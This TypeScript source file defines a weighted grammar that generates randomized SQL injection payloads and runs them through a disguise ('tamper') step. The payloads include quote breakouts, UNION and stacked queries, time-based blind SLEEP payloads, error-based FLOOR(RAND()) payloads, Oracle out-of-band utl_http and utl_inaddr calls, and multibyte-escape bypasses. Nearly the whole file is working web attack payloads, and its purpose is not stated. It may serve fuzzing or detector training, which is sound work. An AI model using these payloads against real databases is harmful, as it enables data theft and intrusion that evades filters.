/**
 * SQL injection: a boundary that leaves the victim's string or parenthesis, a technique, and a suffix that repairs
 * the rest of the statement; then perhaps a disguise (sqli-tamper.ts).
 */

import { grammar, lines } from "../lib/grammar.ts";
import type { Random } from "../lib/random.ts";
import { SQLI_COMPARISONS } from "./sqli-comparisons.ts";
import { EXPRESSIONS } from "./sqli-expressions.ts";
import { SQLI_PROBES } from "./sqli-probes.ts";
import { tamperSql } from "./sqli-tamper.ts";
import { TECHNIQUES } from "./sqli-techniques.ts";

const RULES = grammar({
  ...EXPRESSIONS,
  ...TECHNIQUES,
  ...SQLI_PROBES,
  ...SQLI_COMPARISONS,
  start: [
    ["«base»«close» «predicate»«tail»", 26],
    ["«base»«close» «union»«comment»", 14],
    ["«base»«close»;«sp»«stacked»«comment»", 9],
    ["«base»«close» «order»«comment»", 5],
    ["«replacement»", 8],
    ["«inlined»", 5],
    ["«bypass»", 9],
    ["«probe»", 7],
    ["«bare»", 9],
    ["«short»", 9],
    ["«base»«close»«gap»«short»", 2],
    ["«base»«balanced»", 5],
    ["«comparison»", 16],
  ],
  sp: ["«»", "«»", " "],
  base: [
    "«int»",
    "«int»",
    "-«int4»",
    "«small»",
    "1",
    "«»",
    "«»",
    "«rnd»",
    "«Rnd»",
    "«noun»",
    "admin",
    "null",
    "-1",
    "0",
    "«int».«digit»",
    "«rnd» «rnd»",
    "(«int»",
    "999999.9",
    "1e«small»",
    "\\N",
    "@",
    "%",
    "«int»-0",
  ],
  close: [
    ["«»", 8],
    ["'", 12],
    ['"', 4],
    [")", 3],
    ["')", 6],
    ["'))", 3],
    [")))", 1],
    ["'))))))", 1],
    ['")', 2],
    ['"))', 1],
    ["%'", 2],
    ["%')", 2],
    ["%'))", 1],
    ['%"', 1],
    ["`", 1],
    ["`)", 1],
    ["'))))", 1],
    [";", 1],
    ["\\'", 1],
    ["''", 1],
    ["'\"", 1],
    ["]", 1],
    ["'}", 1],
    ["%bf'", 1],
    ["%df%27", 1],
    ['\\"', 1],
    ["']", 1],
    ["' in boolean mode)", 1],
    [") as «rnd» where 1=1", 1],
    ["' where «n=int4»=«$n»", 1],
    ["') where «n=int4»=«$n»", 1],
    ["'))) as «Rnd» where «n=int4»=«$n»", 1],
    ["/**/", 1],
    ["' ", 1],
  ],
  /** The rest of the statement: commented out, or made whole again. */
  tail: [
    ["«comment»", 10],
    ["«open» '«s=Rnd»'='«$s»", 1],
    [" and '«s=Rnd»'='«$s»", 4],
    [" AND ('«s=Rnd»'='«$s»", 3],
    [" AND (('«s=Rnd»'='«$s»", 2],
    [" AND ((('«s=Rnd»' LIKE '«$s»", 1],
    [" and '«s=Rnd»' like '«$s»", 2],
    [' and "«s=Rnd»"="«$s»', 2],
    [' AND ("«s=Rnd»"="«$s»', 2],
    [' and (("«s=Rnd»" like "«$s»', 1],
    [" and («n=int4»=«$n»", 2],
    [" AND ((«n=int4»=«$n»", 2],
    [" AND (((«n=int4»=«$n»", 1],
    [" AND '«s=Rnd»%'='«$s»", 2],
    [" AND ('«s=Rnd»%'='«$s»", 1],
    [" AND (('«s=Rnd»%'='«$s»", 1],
    [" or '«s=rnd»'='«$s»", 2],
    ["«»", 5],
  ],
  open: [" and", " or", " AND (", " OR NOT"],
  comment: [
    ["-- «Rnd»", 6],
    ["-- ", 4],
    ["--", 6],
    ["-- -", 4],
    ["--+", 1],
    ["--+-", 1],
    ["#", 4],
    ["# «Rnd»", 1],
    ["#«rnd»", 1],
    ["/*", 2],
    ["/*«rnd»", 1],
    ["«»", 5],
    [";--", 1],
    [";-- -", 1],
    [";#", 1],
    [";", 1],
    [";%00", 1],
    ["%00", 1],
    ["\u0000", 1],
    ["%23", 1],
    ["%16", 1],
    ["--«nl»", 1],
    [" «»", 1],
    ["/*«rnd»*/", 1],
    ["`", 1],
    ["{", 1],
  ],
  /** A value put in place of the original one. */
  replacement: lines`
    («condcase»)
    («condcase»)
    («select»)
    «query»
    «num»-(«condcase»)
    «num»*(«condcase»)
    (SELECT (CASE WHEN («cmp») THEN «num» ELSE «num» END))
    IF((«cmp»),«num»,«timecall»)
    «iif|IIF»(«cmp»,«num»,1/0)
    «iif|IIF»(«cmp»,'«rnd»',«num»)
    «MAKE_SET|ELT|make_set|elt»(«cmp»,«num»)
    «timecall»
    «erraddend»
    («erraddend»)
    «int»,(«condcase»)
    «num»,«erraddend»
    «num»,(«select»)
    (SELECT * FROM (SELECT(SLEEP(«secs»)))«Rnd»)
    («cmp»)*«num»
    «num» «rlike|regexp|div|xor|mod|&&» («select»)
    «scalar»
    '+(«select»)+'
    (((«cmp»)))
    «num»/(«condcase»)
    «base»^(«cmp»)^«num»
    +«num»+«fn»(«num»)`,
  select: [
    "SELECT «num» FROM «systable»«where»",
    "SELECT «num» FROM(SELECT COUNT(*),CONCAT(«hexlit»,(SELECT (ELT(«n=num»=«$n»,1))),«hexlit»,FLOOR(RAND(0)*2))x FROM «systable» GROUP BY x)a",
    "select «scalar»",
    "select «col» from «tab»«where»«limit»",
    "SELECT «charcat»",
    "select concat(«hexlit»,«scalar»,«hexlit»)",
  ],
  /** In the middle of a string or an expression, with both ends open. */
  inlined: lines`
    «base»'||(«select»)||'
    «base»'||(«condcase»)||'«rnd»
    «base»'+(«select»)+'
    «base»'+(«condcase»)+'«rnd»
    «base»'||«timecall»||'
    «base»'+«timecall»+'
    «base»'-«timecall»-'
    «base»'*«timecall»*'
    «base»'^(«cmp»)^'
    «base»'||«erraddend»||'
    «base»'||'«rnd»
    «base»'+'«rnd»
    '||utl_«inaddr.get_host_address|http.request»((«select»))||'
    «base»' '«rnd»
    «base»'=«timecall»='
    «base»'-(«cmp»)-'
    «base»' or «timecall» or '«rnd»'='
    «base»" or «timecall» or "«rnd»"="
    "XOR(if(now()=sysdate(),sleep(«secs»),0))XOR"«|Z»
    0'XOR(if(now()=sysdate(),sleep(«secs»),0))XOR'Z
    (select(0)from(select(sleep(«secs»)))v)/*'+(select(0)from(select(sleep(«secs»)))v)+'"+(select(0)from(select(sleep(«secs»)))v)+"*/
    if(now()=sysdate(),sleep(«secs»),0)
    «base»'%2b(«select»)%2b'`,
  balanced: lines`
    «'|"|')|")|'))» «or|and|OR|AND|oR|«pipe»«pipe»|&&» «'|"|('|("|(('»«s=rnd2»«'|"»«=|=|like|<>|>»«'|"»«$s»
    ' «or|OR» «n=num»«'=|=»'«$n»
    ' or '«s=small»'='«$s»
    ' «or|and» '«s=small»'='«$s»«' «or|and» '«rnd2»'='«rnd2»|' --|'/*|»
    " or "«s=small»"="«$s»
    ') or ('«s=small»'='«$s»
    ') or '«s=small»'='«$s»«'--|»
    ' or «col»«=| like »'««rnd»|%»
    ' or «cmp» or ''='
    ' or ''='
    '='
    ' or 'x'='x«';#|'/*|'--|»
    ' having «n=num»=«$n» or '«s=rnd»'='«$s»
    ' ««pipe»«pipe»|&&|xor|or not|and not|regexp|div» «num»«=|<|>|<=>|!=»«num»«comment»
    '«*|/|-|+|^|&|%|«pipe»|<|>|=|<>|!=|<<|>>»'«rnd?»
    '«*|/|-|+|^|&|%|«pipe»|<|>|=|<>|!=|<<|>>»«num»«comment»
    "«*|/|-|+|^|&|%|«pipe»|<|>|=|<>|!=|<<|>>»"«rnd?»
    ' or «cmp»«tail»
    ' and «cmp»«tail»
    " or «cmp» or ""="
    ' or «num» «between|in|like|is not» «num|(«num»)|null»«comment»`,
});

/** A SQL injection for some database, context and technique. */
export function sqli(rng: Random): string {
  return tamperSql(rng, RULES(rng));
}
